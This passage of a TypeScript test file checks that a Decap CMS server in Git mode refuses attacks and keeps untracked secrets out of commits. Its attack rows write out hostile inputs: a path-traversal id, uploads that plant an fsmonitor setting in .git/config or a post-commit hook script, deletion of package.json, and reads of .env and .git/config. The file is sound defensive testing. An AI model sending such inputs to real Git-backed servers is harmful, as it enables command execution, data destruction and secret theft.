    body: keyed('unpublishedEntryDataFile', 'pages', '../x', { id: 'pages/../x', path: 'content/pages/sv/om.mdx' }),
  },
  // The branch the server works on
  {
    name: 'a save committed to another branch (branch: annan)',
    body: persistEntry([{ path: 'content/pages/sv/x.mdx' }], { branch: 'annan' }),
  },
  {
    name: 'a save committed onto a draft branch',
    body: persistEntry([{ path: 'content/pages/sv/x.mdx' }], { branch: `cms/pages/${DRAFT}` }),
  },
  {
    name: 'a listing on another branch',
    body: { ...entriesByFolder('content/pages', 'mdx'), params: { ...entriesByFolder('content/pages', 'mdx').params, branch: 'annan' } },
  },
  // Writes and reads as in fs mode, now followed by git add and commit
  { name: 'an upload to .git/config (fsmonitor runs at the commit)', body: persistMedia('.git/config', FSMONITOR(marker)) },
  { name: 'an upload to .git/hooks/post-commit', body: persistMedia('.git/hooks/post-commit', `#!/bin/sh\ntouch ${marker}\n`) },
  { name: 'an HTML upload, committed', body: persistMedia('public/media/x.html', HTML) },
  { name: 'deleteFile package.json, committed', body: deleteFile('package.json') },
  { name: 'deleteFiles .gitignore, committed', body: deleteFiles(['.gitignore']) },
  { name: 'getEntry .env', body: getEntry('.env') },
  { name: 'getMediaFile .git/config', body: getMediaFile('.git/config') },
  { name: 'entriesByFolder .git', body: entriesByFolder('.git', 'config') },
];

describe('the CMS server in Git mode (npm start -- --workflow): attacks', () => {
  let dir = '';
  let port = 0;
  let server: DecapServer;
  let before = new Map<string, Node>();
  const marker = join(tmpdir(), `rc-cms-git-fsmonitor-${process.pid}`);

  beforeAll(async () => {
    dir = attackWorkspace('rc-cms-gitattack-');
    port = await freePort();
    server = spawnDecapServer(dir, port, { origins: localOrigins(SITE_PORT), logLevel: 'error', mode: 'git' });
    await waitForServer(port);
    // An existing draft, for the rows that name one.
    const draft = await api(port, workflowEntry(DRAFT, [{ path: `content/pages/sv/${DRAFT}.mdx` }]));
    expect(draft.status, draft.text).toBe(200);
    expect(git(dir, 'branch', '--list', 'cms/*', '--format=%(refname:short)')).toBe(`cms/pages/${DRAFT}`);
  });
  afterAll(() => {
    server?.stop();
    if (dir) removeWorkspace(dir);
    rmSync(marker, { force: true });
  });
  beforeEach(() => {
    before = snapshot(dir);
  });
  afterEach(() => {
    restore(dir, before);
    rmSync(marker, { force: true });
  });

  it.each(gitAttacks(marker))('$name → 403, nothing written, run or read', async ({ body }) => {
    expectRefused(await api(port, at(dir, body)), dir, before);
    expect(existsSync(marker), 'a command from the attack ran').toBe(false);
  });
});

describe('the CMS server in Git mode: a save commits only the files it wrote', () => {
  let dir = '';
  let port = 0;
  let server: DecapServer;
  const file = 'content/pages/sv/utkast.mdx';
  const image = 'public/media/utkast-bild.png';

  beforeAll(async () => {
    dir = makeWorkspace('rc-cms-gitstage-');
    cpSync(join(process.cwd(), '.gitignore'), join(dir, '.gitignore'));
    git(dir, 'init', '--quiet', '--initial-branch=main');
    git(dir, 'config', 'user.name', 'Testredaktör');
    git(dir, 'config', 'user.email', 'redaktor@exempel.se');
    git(dir, 'config', 'commit.gpgsign', 'false');
    git(dir, 'add', '-A');
    git(dir, 'commit', '--quiet', '-m', 'Start');
    // Untracked, as an editor's working copy has them: one no rule ignores, and a token.
    writeFileSync(join(dir, 'notes-private.txt'), `Mina anteckningar ${SECRET}\n`);
    writeFileSync(join(dir, '.env'), `GITHUB_TOKEN=${SECRET}\n`);
    port = await freePort();
    server = spawnDecapServer(dir, port, { origins: localOrigins(SITE_PORT), logLevel: 'error', mode: 'git' });
    await waitForServer(port);
  });
  afterAll(() => {
    server?.stop();
    if (dir) removeWorkspace(dir);
  });

  const committed = () => new Set(git(dir, 'log', '--all', '--name-only', '--format=').split('\n').filter(Boolean));

  it('a draft with an image, saved again without it, then reviewed and published', async () => {
    const first = await api(port, workflowEntry('utkast', [{ path: file }], { assets: [asset(image)] }));
    expect(first.status, first.text).toBe(200);
    expect(git(dir, 'ls-tree', '-r', '--name-only', 'cms/pages/utkast').split('\n')).toEqual(expect.arrayContaining([file, image]));
    // Saved again without the image: Decap deletes it from the draft.
    const second = await api(port, workflowEntry('utkast', [{ path: file, raw: page('Utkast, andra versionen') }]));
    expect(second.status, second.text).toBe(200);
    expect(git(dir, 'ls-tree', '-r', '--name-only', 'cms/pages/utkast').split('\n')).not.toContain(image);
    for (const status of ['pending_review', 'pending_publish']) {
      const change = await api(port, keyed('updateUnpublishedEntryStatus', 'pages', 'utkast', { newStatus: status }));
      expect(change.status, change.text).toBe(200);
    }
    const unpublished = await api(port, { action: 'unpublishedEntries', params: { branch: 'main' } });
    expect(unpublished.json).toEqual(['pages/utkast']);
    const entry = await api(port, { action: 'unpublishedEntry', params: { branch: 'main', id: 'pages/utkast' } });
    expect(entry.status, entry.text).toBe(200);
    // The admin sends the file's own id (its path), which the filter must pass.
    for (const id of ['pages/utkast', file]) {
      const data = await api(port, keyed('unpublishedEntryDataFile', 'pages', 'utkast', { id, path: file }));
      expect(data.status, data.text).toBe(200);
      expect((data.json as { data: string }).data).toContain('andra versionen');
    }
    // For a language file it has not listed the id is '': decap-server's own check answers that (422), not the filter.
    const unlisted = await api(port, keyed('unpublishedEntryDataFile', 'pages', 'utkast', { id: '', path: file }));
    expect(unlisted.status, unlisted.text).not.toBe(403);
    const publish = await api(port, keyed('publishUnpublishedEntry', 'pages', 'utkast'));
    expect(publish.status, publish.text).toBe(200);
    expect(git(dir, 'show', `main:${file}`)).toContain('andra versionen');
    expect(git(dir, 'branch', '--list', 'cms/*')).toBe('');
  });

  it('an upload and a delete straight on main, beside a file changed by hand', async () => {
    // A tracked file changed by hand, not saved through the CMS. (A draft save would now refuse to
    // start: Decap rebases the draft, and git rebase needs a clean working copy, as before.)
    writeFileSync(join(dir, 'astro.config.mjs'), `${readFileSync(join(dir, 'astro.config.mjs'), 'utf8')}// ändrad för hand\n`);
    expect((await api(port, persistMedia('public/media/direkt.png'))).status).toBe(200);
    expect(git(dir, 'ls-tree', '--name-only', 'main', 'public/media/')).toContain('public/media/direkt.png');
    expect((await api(port, deleteFile('content/pages/sv/om.mdx'))).status).toBe(200);
    expect(git(dir, 'ls-tree', '--name-only', 'main', 'content/pages/sv/')).not.toContain('content/pages/sv/om.mdx');
  });

  it('no commit on any branch holds the untracked files or the hand-made change', () => {
    const files = committed();
    expect(files.has(file)).toBe(true);
    expect(files.has('notes-private.txt')).toBe(false);
    expect(files.has('.env')).toBe(false);
    expect(git(dir, 'log', '--all', '--format=%H', '--', 'astro.config.mjs').split('\n')).toHaveLength(1);
    expect(git(dir, 'log', '--all', '-p').includes(SECRET)).toBe(false);
  });

  it('the working copy keeps them as they were: untracked, changed, on main, nothing left staged', () => {
    expect(git(dir, 'rev-parse', '--abbrev-ref', 'HEAD')).toBe('main');
    expect(git(dir, 'diff', '--cached', '--name-only')).toBe('');
    expect(execFileSync('git', ['status', '--porcelain'], { cwd: dir, encoding: 'utf8' })).toBe(
      ' M astro.config.mjs\n?? notes-private.txt\n',
    );
    expect(readFileSync(join(dir, '.env'), 'utf8')).toContain(SECRET);
  });
});

describe('.gitignore keeps secrets out of Git', () => {
  const secrets = [
    '.env',
    '.env.local',
    '.env.production',
    'deploy/.env',
    'server.pem',
    'tls.key',
    'id_rsa',
    'id_rsa.pub',
    'id_ed25519',
    '.npmrc',
    '.netrc',
    'cert.p12',
  ];
  let dir = '';
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'rc-gitignore-'));
    cpSync(join(process.cwd(), '.gitignore'), join(dir, '.gitignore'));
    git(dir, 'init', '--quiet');
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const ignored = (path: string) => {
    try {
      execFileSync('git', ['check-ignore', '--no-index', '-q', path], { cwd: dir });
      return true;
    } catch {
      return false;
    }
  };
  it.each(secrets)('%s is ignored', (path) => expect(ignored(path)).toBe(true));
  it('.env.example, content and uploads are not', () => {
    for (const path of ['.env.example', 'content/pages/sv/om.mdx', 'public/media/nyckel.png', 'src/lib/keys.ts'])
      expect(ignored(path), path).toBe(false);
  });
});
